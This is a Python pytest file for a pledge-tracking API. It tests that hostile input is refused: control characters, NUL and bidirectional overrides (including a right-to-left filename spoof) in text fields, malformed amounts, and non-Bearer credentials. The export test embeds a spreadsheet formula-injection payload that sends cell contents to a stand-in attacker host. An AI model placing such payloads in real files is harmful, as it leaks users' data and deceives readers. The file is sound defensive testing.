"""Text and amounts that cannot deceive, and credentials that count only as sent
(issue: hostile clients, attack 9).

* Free text (title, description, external_ref, progress_note) refuses C0/C1 control
  characters, NUL among them, and bidirectional overrides and isolates, on both
  engines and over REST, GraphQL and each item of a batch; tab and line breaks stay.
  NUL was stored on SQLite and refused by PostgreSQL, where one such item failed a
  whole non-atomic batch.
* An amount is exactly the documented pattern: no exponent, separator, sign, space,
  other script's digits, or JSON number.
* The documented maximum amount is storable in a currency worth more than a dollar
  on PostgreSQL too (its USD equivalent overflowed ``numeric(20, 2)``).
* A secret sent without ``Bearer`` is invalid, as the docstring always said.
* The data package's spreadsheet copy neutralises formulas; its README warns.
"""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from app.models import Pledge
from tests.factories import Key, make_api_key, pledge_body


@pytest.fixture
async def writer(session: AsyncSession) -> Key:
    return await make_api_key(session, name="ministry script")


async def stored(session: AsyncSession, key: Key) -> int:
    count = await session.scalar(
        select(func.count()).select_from(Pledge).where(Pledge.api_key_id == key.id)
    )
    return int(count or 0)


DECEPTIVE = {
    "nul": "Shelters\x00",
    "bell": "Shel\x07ters",
    "escape": "\x1b[31mShelters",
    "vertical-tab": "Shel\x0bters",
    "del": "Shel\x7fters",
    "c1-csi": "Shel\x9bters",
    "next-line": "Shel\x85ters",
    "rlo": "Invoice \u202egnp.exe",
    "lre": "\u202aShelters",
    "isolate": "Shel\u2067ters\u2069",
}


@pytest.mark.parametrize("field", ["title", "description", "external_ref"])
@pytest.mark.parametrize("name", list(DECEPTIVE))
async def test_deceptive_text_is_refused_naming_its_field(
    client: httpx.AsyncClient, session: AsyncSession, writer: Key, field: str, name: str
) -> None:
    response = await client.post(
        "/v1/pledges", json=pledge_body(**{field: DECEPTIVE[name]}), headers=writer.headers
    )
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["code"] == "validation_failed"
    [problem] = body["errors"]
    assert problem["field"] == field
    assert "U+" in problem["detail"]
    assert await stored(session, writer) == 0


async def test_tabs_and_line_breaks_stay(
    client: httpx.AsyncClient, session: AsyncSession, writer: Key
) -> None:
    text = "Line one\n\tindented\r\nline three, México, 中文, emoji \U0001f30d"
    response = await client.post(
        "/v1/pledges", json=pledge_body(description=text), headers=writer.headers
    )
    assert response.status_code == 201, response.text
    assert response.json()["description"] == text


async def test_an_update_refuses_deceptive_text(client: httpx.AsyncClient, writer: Key) -> None:
    created = await client.post("/v1/pledges", json=pledge_body(), headers=writer.headers)
    headers = {**writer.headers, "If-Match": created.headers["etag"]}
    for field in ("title", "description", "progress_note"):
        response = await client.patch(
            created.headers["location"], json={field: "Paid\u202e"}, headers=headers
        )
        assert response.status_code == 422, response.text
        assert [e["field"] for e in response.json()["errors"]] == [field]


async def test_graphql_refuses_deceptive_text_as_rest_does(
    client: httpx.AsyncClient, session: AsyncSession, writer: Key
) -> None:
    response = await client.post(
        "/graphql",
        json={
            "query": 'mutation($t: String!) { submitPledge(input: {pledgers: ["CAN"], '
            'forum: "RCM", kind: TECHNICAL, title: $t}) { created } }',
            "variables": {"t": "Shelters\x00"},
        },
        headers=writer.headers,
    )
    body = response.json()
    assert body["data"] == {"submitPledge": None}
    [error] = body["errors"]
    assert error["extensions"]["code"] == "validation_failed"
    assert [e["field"] for e in error["extensions"]["errors"]] == ["title"]
    assert "INSERT" not in response.text
    assert await stored(session, writer) == 0


async def test_one_nul_item_is_rejected_alone_in_a_batch(
    client: httpx.AsyncClient, session: AsyncSession, writer: Key
) -> None:
    """On PostgreSQL the NUL reached the INSERT, which failed the whole non-atomic batch."""
    items = [
        pledge_body(title="First", external_ref="b-1"),
        pledge_body(title="Sec\x00ond", external_ref="b-2"),
        pledge_body(title="Third", external_ref="b-3"),
    ]
    response = await client.post(
        "/v1/pledges/batch", json={"pledges": items}, headers=writer.headers
    )
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["created"], body["rejected"]) == (2, 1)
    assert [r["outcome"] for r in body["results"]] == ["created", "rejected", "created"]
    assert [e["field"] for e in body["results"][1]["errors"]] == ["title"]
    assert await stored(session, writer) == 2


@pytest.mark.parametrize(
    "amount",
    [
        "1e3",
        "1E3",
        "1_000",
        "1,000",
        "\u0661\u0660\u0660\u0660",  # Arabic-Indic digits
        "\uff11\uff10\uff10",  # full-width digits
        " 100",
        "100 ",
        "+100",
        "100.",
        ".50",
        "100.001",
        "0x10",
        "Infinity",
        "1" * 14,
        1000,
        1000.5,
        True,
    ],
    ids=repr,
)
async def test_an_amount_is_exactly_the_documented_pattern(
    client: httpx.AsyncClient, session: AsyncSession, writer: Key, amount: Any
) -> None:
    response = await client.post(
        "/v1/pledges", json=pledge_body(amount=amount), headers=writer.headers
    )
    assert response.status_code == 422, response.text
    assert [e["field"] for e in response.json()["errors"]] == ["amount"]
    assert await stored(session, writer) == 0


async def test_the_patterns_amounts_are_accepted(client: httpx.AsyncClient, writer: Key) -> None:
    for amount, stored_as in [("7", "7.00"), ("0012.5", "12.50"), ("1000000.00", "1000000.00")]:
        response = await client.post(
            "/v1/pledges", json=pledge_body(amount=amount), headers=writer.headers
        )
        assert response.status_code == 201, response.text
        assert response.json()["amount"] == stored_as


@pytest.mark.parametrize("currency", ["USD", "EUR", "GBP"])
async def test_the_documented_maximum_is_stored_exactly_in_any_currency(
    client: httpx.AsyncClient, writer: Key, currency: str
) -> None:
    """The pattern's largest amount reads back digit for digit on both engines; in June
    2021 a euro was worth 1.22 dollars and a pound 1.42."""
    document = (await client.get("/openapi.json")).json()
    pattern = document["components"]["schemas"]["PledgeCreate"]["properties"]["amount"]
    assert pattern["anyOf"][0]["pattern"] == r"^[0-9]{1,13}(\.[0-9]{1,2})?$"
    largest = "9999999999999.99"
    response = await client.post(
        "/v1/pledges",
        json=pledge_body(amount=largest, currency=currency, announced_on="2021-06"),
        headers=writer.headers,
    )
    assert response.status_code == 201, response.text
    pledge = response.json()
    assert pledge["amount"] == largest
    assert pledge["amount_usd"] is not None
    again = (await client.get(f"/v1/pledges/{pledge['id']}")).json()
    assert (again["amount"], again["amount_usd"]) == (largest, pledge["amount_usd"])


async def test_a_secret_without_bearer_is_invalid(
    client: httpx.AsyncClient, session: AsyncSession, writer: Key
) -> None:
    for header in (writer.secret, f"Token {writer.secret}", f"Basic {writer.secret}"):
        response = await client.post(
            "/v1/pledges", json=pledge_body(), headers={"Authorization": header}
        )
        assert (response.status_code, response.json()["code"]) == (401, "api_key_invalid")
        graphql = await client.post(
            "/graphql",
            json={
                "query": 'mutation { submitPledge(input: {pledgers: ["CAN"], forum: "RCM", '
                'kind: TECHNICAL, title: "T"}) { created } }'
            },
            headers={"Authorization": header},
        )
        [error] = graphql.json()["errors"]
        assert error["extensions"]["code"] == "api_key_invalid"
    assert await stored(session, writer) == 0


async def test_the_package_has_a_guarded_spreadsheet_copy_and_says_so(
    exporting_client: httpx.AsyncClient, writer: Key
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    created = await exporting_client.post(
        "/v1/pledges",
        json=pledge_body(title=formula, description="@SUM(1+1)"),
        headers=writer.headers,
    )
    assert created.status_code == 201, created.text
    listing = (await exporting_client.get("/v1/download")).json()
    [entry] = [f for f in listing["files"] if f["format"] == "zip"]
    archive = zipfile.ZipFile(io.BytesIO((await exporting_client.get(entry["url"])).content))

    def pledge_row(member: str) -> dict[str, str]:
        rows = csv.DictReader(io.StringIO(archive.read(member).decode("utf-8"), newline=""))
        [row] = [r for r in rows if r["id"] == str(created.json()["id"])]
        return row

    raw = pledge_row("data/pledge.csv")
    assert (raw["title"], raw["description"]) == (formula, "@SUM(1+1)")
    guarded = pledge_row("spreadsheet/pledge.csv")
    assert (guarded["title"], guarded["description"]) == (f"'{formula}", "'@SUM(1+1)")
    assert (guarded["amount"], guarded["announced_date"]) == (raw["amount"], raw["announced_date"])
    tables = {n for n in archive.namelist() if n.startswith("data/")}
    assert {n.replace("data/", "spreadsheet/", 1) for n in tables} == {
        n for n in archive.namelist() if n.startswith("spreadsheet/")
    }
    readme = archive.read("README.txt").decode()
    assert "do not open data/*.csv in a spreadsheet" in readme
    assert "spreadsheet/<table>.csv" in readme
